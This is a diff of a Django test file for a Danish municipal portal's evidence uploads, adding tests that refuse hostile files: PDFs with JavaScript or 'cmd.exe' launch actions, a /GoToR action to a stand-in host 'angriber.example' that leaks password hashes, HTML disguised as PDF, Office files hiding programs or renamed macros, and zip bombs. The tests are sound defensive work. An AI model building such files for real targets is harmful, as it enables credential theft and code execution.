@@ -1,58 +1,109 @@
 """Evidence a municipality uploads with a report line: accepted by content, refused in Danish when
 too large or disguised, kept or removed on purpose, and served only to the municipality and its
-region's secretariat."""
+region's secretariat, never cached. What could harm the reader is refused: a PDF that acts when
+opened, HTML dressed as a PDF, an Office file carrying a program or macro under any name, a zip
+bomb; an upload past the limit, alone or with many others, is not read to the end."""
 
 import io
 import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.files.uploadhandler import FileUploadHandler
 from django.urls import reverse
 
-from tests.conftest import first_line
-from tests.conftest import post_report
-from tests.conftest import report_data
-from tests.conftest import small_pdf
-from tests.conftest import with_evidence
+from goals import evidence
+from tests.builders import filled_in
+from tests.builders import first_line
+from tests.builders import post_file
+from tests.builders import post_report
+from tests.builders import small_pdf
+from tests.builders import with_evidence
 
 pytestmark = pytest.mark.django_db
 
 
-def office_file(part):
+def _open_action(kind, key, value):
+    def add(writer):
+        from pypdf.generic import DictionaryObject
+        from pypdf.generic import NameObject
+        from pypdf.generic import TextStringObject
+
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+            {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
+        )
+
+    return add
+
+
+_javascript_on_open = _open_action("/JavaScript", "/JS", "app.alert('kørt ved åbning');")
+
+
+_launch_on_open = _open_action("/Launch", "/F", "cmd.exe")
+
+
+def _embedded_file(writer):
+    writer.add_attachment("virus.exe", b"MZ\x90\x00")
+
+
+def _zip(entries):
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        archive.writestr(part, "<document/>")
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in entries:
+            archive.writestr(name, content)
     return buffer.getvalue()
 
 
-@pytest.fixture
-def reporter_client(client, reporters):
-    client.force_login(reporters[101])
-    return client
+def office_file(part):
+    """An Office package of one part (a Word document, a workbook, or not Office at all)."""
+    return _zip([("[Content_Types].xml", "<Types/>"), (part, "<document/>")])
 
 
-def post_file(client, report, upload, **extra):
-    line = report.lines.order_by("milestone__goal__order").first()
-    data = {"version": report.version, "save": "1"}
-    for other in report.lines.all():
-        data[f"line-{other.milestone_id}-status"] = "in_progress"
-    data[f"line-{line.milestone_id}-evidence_file"] = upload
-    data.update(extra)
-    response = client.post(reverse("goals:report_form", args=[report.pk]), data, follow=True)
-    line.refresh_from_db()
-    return response, line
-
-
-def test_a_real_small_pdf_is_saved_and_served_to_the_municipality(reporter_client, report):
-    content = small_pdf()
-    response, line = post_file(
-        reporter_client, report, SimpleUploadedFile("Akutplan 2025.pdf", content)
+def _office(entries):
+    """A Word document with `entries` (name, content) inside."""
+    return _zip(
+        [("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<document/>"), *entries]
     )
+
+
+def _content_types(*overrides):
+    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
+    return f'<?xml version="1.0"?><Types xmlns="x">{parts}</Types>'
+
+
+class _CountingHandler(FileUploadHandler):
+    """An upload handler after the portal's own that counts what reaches it (`received`)."""
+
+    received = []
+
+    def receive_data_chunk(self, raw_data, start):
+        _CountingHandler.received.append(len(raw_data))
+        return raw_data
+
+    def file_complete(self, file_size):
+        return None
+
+
+@pytest.fixture
+def received(settings):
+    """Bytes of uploads read past the portal's handler, with a limit of 64 KB a file."""
+    settings.EVIDENCE_MAX_BYTES = 64 * 1024
+    settings.FILE_UPLOAD_HANDLERS = [
+        *settings.FILE_UPLOAD_HANDLERS[:1],
+        f"{__name__}._CountingHandler",
+        *settings.FILE_UPLOAD_HANDLERS[1:],
+    ]
+    _CountingHandler.received = []
+    return _CountingHandler.received
+
+
+def test_a_real_small_pdf_is_saved_and_served_to_the_municipality(reporter, report):
+    content = small_pdf()
+    response, line = post_file(reporter, report, SimpleUploadedFile("Akutplan 2025.pdf", content))
 
     assert "Kladden er gemt" in response.content.decode()
     assert line.evidence_file.name.endswith(".pdf")
-    download = reporter_client.get(reverse("goals:evidence_file", args=[line.pk]))
+    download = reporter.get(reverse("goals:evidence_file", args=[line.pk]))
     assert download.status_code == 200
     assert download["Content-Type"] == "application/pdf"
     assert b"".join(download.streaming_content) == content
@@ -70,9 +121,9 @@ def test_a_real_small_pdf_is_saved_and_served_to_the_municipality(reporter_clien
     ],
 )
 def test_office_files_and_images_are_accepted_by_content(
-    reporter_client, report, name, content, stored_as
+    reporter, report, name, content, stored_as
 ):
-    _response, line = post_file(reporter_client, report, SimpleUploadedFile(name, content))
+    _response, line = post_file(reporter, report, SimpleUploadedFile(name, content))
     assert line.evidence_file.name.endswith(stored_as)
 
 
@@ -84,8 +135,8 @@ def test_office_files_and_images_are_accepted_by_content(
         ("side.pdf", b"<html><script>alert(1)</script></html>"),
     ],
 )
-def test_a_disguised_file_is_refused_next_to_its_field(reporter_client, report, name, content):
-    response, line = post_file(reporter_client, report, SimpleUploadedFile(name, content))
+def test_a_disguised_file_is_refused_next_to_its_field(reporter, report, name, content):
+    response, line = post_file(reporter, report, SimpleUploadedFile(name, content))
     text = response.content.decode()
     assert "Filtypen kan ikke bruges" in text
     assert "Indberetningen er ikke gemt" in text
@@ -94,41 +145,37 @@ def test_a_disguised_file_is_refused_next_to_its_field(reporter_client, report, 
     assert report.version == 1
 
 
-def test_a_file_over_the_limit_is_refused(reporter_client, report, settings):
+def test_a_file_over_the_limit_is_refused(reporter, report, settings):
     settings.EVIDENCE_MAX_BYTES = 2048
     content = small_pdf() + b"%" * 4096
-    response, line = post_file(reporter_client, report, SimpleUploadedFile("stor.pdf", content))
+    response, line = post_file(reporter, report, SimpleUploadedFile("stor.pdf", content))
     text = response.content.decode()
     assert "Filen er for stor" in text
     assert "2,0" in text and "KB" in text  # the limit, in Danish number format
     assert not line.evidence_file
 
 
-def test_the_default_limit_is_ten_megabytes(reporter_client, report, settings):
+def test_the_default_limit_is_ten_megabytes(reporter, report, settings):
     assert settings.EVIDENCE_MAX_BYTES == 10 * 1024 * 1024
     content = small_pdf() + b"%" * (settings.EVIDENCE_MAX_BYTES + 1)
-    response, line = post_file(reporter_client, report, SimpleUploadedFile("stor.pdf", content))
+    response, line = post_file(reporter, report, SimpleUploadedFile("stor.pdf", content))
     assert "Filen er for stor" in response.content.decode()
     assert not line.evidence_file
 
 
-def test_a_saved_file_is_kept_when_the_form_has_an_error_and_can_be_removed(
-    reporter_client, report
-):
-    _response, line = post_file(reporter_client, report, SimpleUploadedFile("a.pdf", small_pdf()))
+def test_a_saved_file_is_kept_when_the_form_has_an_error_and_can_be_removed(reporter, report):
+    _response, line = post_file(reporter, report, SimpleUploadedFile("a.pdf", small_pdf()))
     saved = line.evidence_file.name
     report.refresh_from_db()
 
     key = f"line-{line.milestone_id}"
-    response, line = post_file(
-        reporter_client, report, b"", **{f"{key}-evidence_url": "ikke et link"}
-    )
+    response, line = post_file(reporter, report, b"", **{f"{key}-evidence_url": "ikke et link"})
     text = response.content.decode()
     assert "Indtast en gyldig URL." in text
     assert "Gemt fil:" in text
     assert line.evidence_file.name == saved
 
-    response, line = post_file(reporter_client, report, b"", **{f"{key}-clear_evidence_file": "on"})
+    response, line = post_file(reporter, report, b"", **{f"{key}-clear_evidence_file": "on"})
     assert "Kladden er gemt" in response.content.decode()
     assert not line.evidence_file
 
@@ -136,7 +183,7 @@ def test_a_saved_file_is_kept_when_the_form_has_an_error_and_can_be_removed(
 def test_an_empty_file_is_refused_in_danish(reporter, report):
     line = first_line(report)
     upload = SimpleUploadedFile("tom.pdf", b"")
-    data = report_data(report, **{f"line-{line.milestone_id}-evidence_file": upload})
+    data = filled_in(report, **{f"line-{line.milestone_id}-evidence_file": upload})
 
     response = post_report(reporter, report, data)
 
@@ -155,7 +202,7 @@ def test_a_file_of_exactly_the_limit_is_saved_one_byte_more_is_refused(
     content = pdf + b"%" * (settings.EVIDENCE_MAX_BYTES - len(pdf) + extra)
     line = first_line(report)
     upload = SimpleUploadedFile("plan.pdf", content)
-    data = report_data(report, **{f"line-{line.milestone_id}-evidence_file": upload})
+    data = filled_in(report, **{f"line-{line.milestone_id}-evidence_file": upload})
 
     response = post_report(reporter, report, data)
 
@@ -190,3 +237,167 @@ def test_evidence_is_served_to_its_municipality_and_region_only(
     client.logout()
     response = client.get(url)
     assert response.status_code == 302 and "/konto/login/" in response["Location"]
+
+
+@pytest.mark.parametrize(
+    ("name", "build", "says"),
+    [
+        ("script.pdf", lambda: small_pdf(_javascript_on_open), "aktivt indhold"),
+        ("launch.pdf", lambda: small_pdf(_launch_on_open), "aktivt indhold"),
+        ("bilag.pdf", lambda: small_pdf(_embedded_file), "aktivt indhold"),
+        (
+            "side.pdf",
+            lambda: b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>",
+            "HTML",
+        ),
+        ("program.docx", lambda: _office([("word/media/setup.exe", b"MZ\x90\x00")]), "programmer"),
+        ("makro.docx", lambda: _office([("word/vbaProject.bin", b"\xd0\xcf")]), "programmer"),
+        (
+            "bombe.docx",
+            lambda: _office([("word/fyld.xml", b"\0" * (150 * 1024 * 1024))]),
+            "alt for meget",
+        ),
+        (
+            "mange.docx",
+            lambda: _office([(f"word/d{i}.xml", b"") for i in range(5000)]),
+            "alt for meget",
+        ),
+    ],
+)
+def test_an_active_or_disguised_upload_is_refused(reporter, report, name, build, says):
+    response, line = post_file(reporter, report, SimpleUploadedFile(name, build()))
+    page = response.content.decode()
+
+    assert says in page
+    assert "Indberetningen er ikke gemt" in page
+    assert not line.evidence_file
+
+
+@pytest.mark.parametrize(
+    "build",
+    [
+        # A zip inside the document with a program in it.
+        lambda: _office([("word/embeddings/pakke.zip", _zip([("setup.exe", b"MZ\x90\x00")]))]),
+        # A program named like a picture.
+        lambda: _office([("word/media/image1.png", b"MZ\x90\x00\x03\x00\x00\x00")]),
+        # A program whose name ends in a space.
+        lambda: _office([("word/setup.exe ", b"MZ\x90\x00")]),
+        # An embedded object (how Office packages carry programs and exploits) under a new name.
+        lambda: _office([("word/embeddings/objekt.dat", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")]),
+        # The macro project under another name: Office finds it by its content type.
+        lambda: _zip(
+            [
+                (
+                    "[Content_Types].xml",
+                    _content_types(("/word/makro.dat", "application/vnd.ms-office.vbaProject")),
+                ),
+                ("word/document.xml", "<document/>"),
+                ("word/makro.dat", b"makroprojekt"),
+            ]
+        ),
+    ],
+    ids=["zip-in-docx", "exe-as-png", "exe-with-space", "ole-renamed", "macro-renamed"],
+)
+def test_an_office_document_hiding_a_program_or_macro_under_another_name_is_refused(
+    reporter, report, build
+):
+    response, line = post_file(reporter, report, SimpleUploadedFile("plan.docx", build()))
+    page = response.content.decode()
+
+    assert "programmer eller makroer" in page
+    assert not line.evidence_file
+
+
+def test_an_office_document_with_a_chart_workbook_inside_is_still_accepted(reporter, report):
+    """Word keeps a chart's data as a whole workbook inside the document: that is no attack."""
+    workbook = _zip([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")])
+    content = _office([("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook)])
+
+    _response, line = post_file(reporter, report, SimpleUploadedFile("rapport.docx", content))
+
+    assert line.evidence_file.name.endswith(".docx")
+
+
+def test_a_pdf_that_opens_a_remote_file_on_opening_is_refused(reporter, report):
+    """/GoToR to a network share makes Windows send the user's password hash there."""
+
+    def add(writer):
+        from pypdf.generic import ArrayObject
+        from pypdf.generic import DictionaryObject
+        from pypdf.generic import NameObject
+        from pypdf.generic import NumberObject
+        from pypdf.generic import TextStringObject
+
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+            {
+                NameObject("/S"): NameObject("/GoToR"),
+                NameObject("/F"): TextStringObject(r"\\angriber.example\del\x.pdf"),
+                NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
+            }
+        )
+
+    response, line = post_file(reporter, report, SimpleUploadedFile("plan.pdf", small_pdf(add)))
+    page = response.content.decode()
+
+    assert "aktivt indhold" in page
+    assert not line.evidence_file
+
+
+def test_an_upload_past_the_limit_is_not_read_to_the_end(reporter, report, settings, received):
+    """The 200 MB attack, scaled down: past the limit the handler stops reading."""
+    response, line = post_file(
+        reporter, report, SimpleUploadedFile("stor.pdf", b"%PDF-1.7\n" + b"%" * (4 * 1024 * 1024))
+    )
+    page = response.content.decode()
+
+    assert "er for stor" in page
+    assert not line.evidence_file
+    assert sum(received) <= settings.EVIDENCE_MAX_BYTES
+    report.refresh_from_db()
+    assert report.version == 1
+
+
+def test_many_files_each_under_the_limit_are_not_all_read(reporter, report, received):
+    """The 200 MB attack split in files of 10 MB each, scaled down: the request as a whole
+    is cut off too, not only each file."""
+    files = {  # 30 × 60 KB: every file under the limit, 1.8 MB in all
+        f"fyld-{i}": SimpleUploadedFile(f"fyld{i}.pdf", b"%PDF-1.7\n" + b"%" * 60_000)
+        for i in range(30)
+    }
+
+    response = reporter.post(f"/indberetning/{report.pk}/", filled_in(report, **files), follow=True)
+
+    assert "fylder for meget tilsammen" in response.content.decode()
+    assert sum(received) <= evidence.request_limit() < 30 * 60_000
+    report.refresh_from_db()
+    assert report.version == 1
+
+
+def test_a_replaced_evidence_file_is_removed_once_nothing_refers_to_it(reporter, report, settings):
+    from django.core.management import call_command
+
+    from goals.models import MilestoneStatus
+
+    _response, line = post_file(reporter, report, SimpleUploadedFile("første.pdf", small_pdf()))
+    first = line.evidence_file.name
+    report.refresh_from_db()
+    _response, line = post_file(reporter, report, SimpleUploadedFile("anden.pdf", small_pdf()))
+    second = line.evidence_file.name
+    media = settings.MEDIA_ROOT
+    assert (media / first).exists()  # the history still shows the first version
+
+    # The history of that version is cleaned away: the file goes with it, the current stays.
+    MilestoneStatus.history.filter(evidence_file=first).delete()
+    call_command("prune_evidence", stdout=io.StringIO())
+
+    assert not (media / first).exists()
+    assert (media / second).exists()
+
+
+def test_an_evidence_download_is_never_cached(reporter, report):
+    _response, line = post_file(reporter, report, SimpleUploadedFile("plan.pdf", small_pdf()))
+
+    response = reporter.get(f"/indberetning/bilag/{line.pk}/")
+
+    assert response.status_code == 200
+    assert response["Cache-Control"] == "private, no-store"
